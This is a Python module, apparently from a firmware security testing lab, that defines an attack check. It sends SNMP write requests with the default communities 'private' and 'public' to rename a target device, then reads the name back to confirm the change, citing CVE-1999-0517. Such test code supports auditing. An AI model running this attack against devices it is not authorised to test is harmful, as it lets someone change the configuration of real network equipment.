"""Settings changed by SNMP, with the community that everybody knows."""

from contextlib import closing

from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.means import network, snmp
from firmward.lab.station import Station
from firmward.lab.target import Powered, Target, Witness

PORT = 161
WRITES = ("private", "public")
READS = "public"
SECONDS = 1.5


def run(target: Target) -> Result:
    with closing(Station()) as station:
        return network.attacked(target, ATTACK, lambda powered: _strike(powered, station), station)


def _strike(powered: Powered, station: Station) -> bool:
    name = f"owned-{powered.target.challenge.first}"
    for community in WRITES:
        station.ask(PORT, snmp.change(community, snmp.NAME, name), SECONDS)
        answer = station.ask(PORT, snmp.get(READS, snmp.NAME), SECONDS)
        if answer is not None and name.encode() in answer.data:
            says = f"the device calls itself {name}, after an order with the community {community}"
            powered.target.note(Witness.NETWORK, says)
            return True
    return False


ATTACK = Attack(
    id="snmp-write",
    title="Settings changed with a default community",
    does="gives the device another name by SNMP, with the communities that everybody tries first",
    position=Position.NETWORK,
    link=RUNNING,
    case="CVE-1999-0517: the community name of SNMP is the default",
    foretold=("default-community",),
    run=run,
    within=120.0,
)
